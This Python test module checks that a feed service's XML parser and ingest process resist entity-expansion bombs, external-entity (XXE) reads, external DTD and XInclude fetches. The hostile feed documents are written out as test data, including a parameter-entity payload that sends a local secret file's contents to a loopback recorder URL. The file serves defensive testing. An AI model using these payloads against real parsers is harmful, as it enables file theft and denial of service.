"""XML attacks through the public parser and the real ingest path: one test per attack.

Each hostile document is ingested by a real `feedsvc ingest` process twice over: as a feed
file on disk and as a URL source served by a loopback server that records every request it
gets. Nothing may expand beyond a bound, nothing may be fetched (the server sees only the
feed's own URL), and the content of a local secret file (or of the loopback "secret" URL) may
reach neither the database (its raw bytes, WAL included) nor any published file nor the
command's output. Each document is also parsed in-process by :func:`feedsvc.parse.parse_feed`
(whatever parser it uses inside: feedparser, or a faster path) with the same checks.

Bounds are safety bounds for a loaded machine, not speed targets: a whole ingest process
(start-up included) under 5 s and 200 MB peak RSS (its own ``VmHWM``). The worst figures
are printed (``pytest -s``).
"""

from __future__ import annotations

import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from feedsvc.errors import ParseError
from feedsvc.parse import parse_feed

from conftest import FeedServer
from robust import integrity, rows, write_config

# Bounds that tell an attack that worked (expansion without end: minutes, gigabytes) from one
# that was refused; not speed targets. A loaded 2-core machine took 7.6 s to start Python,
# ingest one small file and publish, so the time bound is generous.
MAX_SECONDS = 60.0
MAX_RSS_MB = 200.0
SECRET = "FEEDSVC-LOCAL-SECRET-7f3a"  # in a local file the attacks point at
HTTP_SECRET = "FEEDSVC-HTTP-SECRET-91c2"  # what the loopback server would answer

LAUGHS = "".join(
    f'<!ENTITY lol{i} "{"".join(f"&lol{i - 1};" for _ in range(10))}">' for i in range(1, 10)
)


def rss(doctype: str, title: str, description: str, *, prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>{prolog}\n{doctype}\n'
        '<rss version="2.0"><channel><title>Attack</title><link>https://attack.example/</link>'
        "<description>d</description><item><title>"
        f"{title}</title><guid>https://attack.example/1</guid><description>{description}"
        "</description></item></channel></rss>"
    ).encode()


def atom(doctype: str, content: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>\n{doctype}\n'
        '<feed xmlns="http://www.w3.org/2005/Atom" xmlns:xi="http://www.w3.org/2001/XInclude">'
        "<title>Attack</title><id>urn:attack</id><updated>2026-01-01T00:00:00Z</updated>"
        "<entry><title>Entry</title><id>urn:attack:1</id><updated>2026-01-01T00:00:00Z</updated>"
        f'<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">{content}</div>'
        "</content></entry></feed>"
    ).encode()


def attacks(secret_file: Path, base: str) -> dict[str, bytes]:
    """name → hostile document; ``base`` is the loopback server that records requests."""
    file_uri = secret_file.as_uri()
    return {
        "billion-laughs": rss(
            f'<!DOCTYPE rss [<!ENTITY lol0 "lol">{LAUGHS}]>', "&lol9;", "&lol9;&lol9;"
        ),
        "quadratic-blowup": rss(
            f'<!DOCTYPE rss [<!ENTITY a "{"a" * 100_000}">]>', "&a;" * 200, "&a;" * 20_000
        ),
        "external-entity-file": rss(
            f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{file_uri}">]>', "&xxe;", "before &xxe; after"
        ),
        "external-entity-http": rss(
            f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{base}/xxe">]>', "&xxe;", "before &xxe; after"
        ),
        "external-dtd": rss(
            f'<!DOCTYPE rss SYSTEM "{base}/evil.dtd">',
            "&fromdtd;",
            "text &fromdtd;",
            prolog=f'<?xml-stylesheet type="text/xsl" href="{base}/style.xsl"?>',
        ),
        "parameter-entities": rss(
            "<!DOCTYPE rss [\n"
            f'<!ENTITY % remote SYSTEM "{base}/param.dtd"> %remote;\n'
            f'<!ENTITY % file SYSTEM "{file_uri}">\n'
            f"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '{base}/exfil?d=%file;'>\">\n"
            "%eval; %exfil;\n]>",
            "Parameter entities",
            "&exfil;",
        ),
        "xinclude": atom(
            "",
            f'<xi:include href="{file_uri}" parse="text"/>'
            f'<xi:include href="{base}/xinclude" parse="text"/>',
        ),
        "external-entity-atom": atom(
            f'<!DOCTYPE feed [<!ENTITY xxe SYSTEM "{file_uri}"><!ENTITY web SYSTEM "{base}/xxe">]>',
            "<p>&xxe; &web;</p>",
        ),
    }


@dataclass
class Measured:
    seconds: float
    rss_mb: float
    returncode: int
    output: str


# Runs the CLI and writes its own peak RSS (VmHWM: this process image only; wait4's
# ru_maxrss would also count the pages of the test process it was forked from) at exit.
PEAK_RSS = """
import atexit, resource, sys
def report():
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    try:
        with open("/proc/self/status") as f:
            peak = next(int(line.split()[1]) for line in f if line.startswith("VmHWM:"))
    except (OSError, StopIteration):
        pass
    with open(peak_file, "w") as out:
        out.write(str(peak))
peak_file = sys.argv[1]
atexit.register(report)
sys.argv = ["feedsvc", *sys.argv[2:]]
from feedsvc.cli import main
main()
"""


def run_measured(args: list[str], cwd: Path, log: Path) -> Measured:
    """Run ``feedsvc ARGS...`` to its end: its wall time and its peak RSS (KiB → MB)."""
    peak = log.with_suffix(".peak")
    with log.open("wb") as out:
        started = time.monotonic()
        proc = subprocess.Popen(
            [sys.executable, "-c", PEAK_RSS, str(peak), *args],
            cwd=cwd,
            stdout=out,
            stderr=subprocess.STDOUT,
        )
        try:
            proc.wait(timeout=60)  # a hang fails the test, never stalls it
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait(timeout=10)
            raise
        seconds = time.monotonic() - started
    return Measured(
        seconds, int(peak.read_text()) / 1024, proc.returncode, log.read_text("utf-8", "replace")
    )


WORST: dict[str, float] = {"seconds": 0.0, "rss_mb": 0.0, "parse_seconds": 0.0}


@pytest.fixture(scope="module", autouse=True)
def report_worst() -> Iterator[None]:
    yield
    print(
        f"\nXML attacks, worst: ingest process {WORST['seconds']:.2f} s (start-up included) "
        f"and {WORST['rss_mb']:.0f} MB peak RSS; parse_feed in-process "
        f"{WORST['parse_seconds'] * 1000:.0f} ms"
    )


NAMES = [
    "billion-laughs",
    "quadratic-blowup",
    "external-entity-file",
    "external-entity-http",
    "external-dtd",
    "parameter-entities",
    "xinclude",
    "external-entity-atom",
]


@pytest.mark.parametrize("name", NAMES)
def test_xml_attack(name: str, tmp_path: Path, feed_server: FeedServer) -> None:
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text(SECRET, encoding="utf-8")
    for bait in ("/xxe", "/evil.dtd", "/param.dtd", "/style.xsl", "/xinclude"):
        feed_server.add(
            bait,
            f'{HTTP_SECRET}<!ENTITY fromdtd "{HTTP_SECRET}">'.encode(),
            headers={"Content-Type": "application/xml-dtd"},
        )
    doc = attacks(secret_file, feed_server.base)[name]
    feed_server.add("/attack.xml", doc, headers={"Content-Type": "application/rss+xml"})
    (tmp_path / "attack.xml").write_bytes(doc)

    # In-process, through the public parser.
    started = time.perf_counter()
    try:
        parsed = parse_feed(doc, headers={"content-type": "application/xml"}, origin=name)
    except ParseError as e:
        assert name in str(e)
        texts: list[str] = [str(e)]
    else:
        texts = [parsed.info.title or ""]
        for a in parsed.articles:
            texts += [a.title, a.content_html, a.summary_html or "", a.key]
    WORST["parse_seconds"] = max(WORST["parse_seconds"], time.perf_counter() - started)
    for text in texts:
        assert SECRET not in text and HTTP_SECRET not in text, name
        assert len(text) <= 2 * len(doc), f"{name}: {len(text)} characters from {len(doc)} bytes"

    # Through a real ingest process: a feed file and a URL source.
    config = write_config(
        tmp_path,
        f"""\
        [[sources]]
        name = "file"
        path = "attack.xml"

        [[sources]]
        name = "url"
        url = "{feed_server.url("/attack.xml")}"
        """,
        feed_id="xml-attacks",
    )
    got = run_measured(["-c", str(config), "ingest"], tmp_path, tmp_path / "ingest.log")
    WORST["seconds"] = max(WORST["seconds"], got.seconds)
    WORST["rss_mb"] = max(WORST["rss_mb"], got.rss_mb)
    assert got.returncode in (0, 1), got.output  # stored, or a recorded per-source error
    assert "Traceback" not in got.output, got.output
    assert got.seconds < MAX_SECONDS, f"{name}: {got.seconds:.1f} s"
    assert got.rss_mb < MAX_RSS_MB, f"{name}: {got.rss_mb:.0f} MB"

    assert feed_server.seen == ["/attack.xml"], f"{name} made feedsvc fetch {feed_server.seen}"
    db = tmp_path / "db/feedsvc.sqlite3"
    assert integrity(db) == "ok"
    states = rows(db, "SELECT name, last_error FROM sources ORDER BY name")
    assert [s[0] for s in states] == ["file", "url"]  # each ends stored or with its error
    longest = rows(db, "SELECT max(length(title) + length(content_html)) FROM entries")[0][0]
    assert (longest or 0) <= 2 * len(doc), f"{name}: an entry of {longest} characters"
    outputs = [got.output.encode()]
    outputs += [p.read_bytes() for p in tmp_path.glob("db/*") if p.is_file()]
    outputs += [p.read_bytes() for p in (tmp_path / "feeds").rglob("*") if p.is_file()]
    for data in outputs:
        assert SECRET.encode() not in data and HTTP_SECRET.encode() not in data, name
